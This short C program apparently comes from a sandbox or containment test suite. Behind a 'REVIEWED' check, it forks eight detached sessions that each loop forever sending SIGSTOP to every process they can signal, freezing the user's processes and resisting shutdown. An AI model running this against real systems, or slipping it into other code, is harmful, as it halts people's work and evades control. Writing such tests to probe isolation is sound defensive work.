// Stops all that it may signal, from sessions of its own and without end, in case somebody becomes its user to end it.
// all: refused (as a process it does not try: it would stop the whole machine)
#include "attack.h"

int main(void) {
    if (!*text("REVIEWED")) return tried();
    puts("tried");
    usleep(10000);
    for (int number = 0; number < 8; number++)
        if (fork() == 0) {
            setsid();
            break;
        }
    for (;;) kill(-1, SIGSTOP);
}
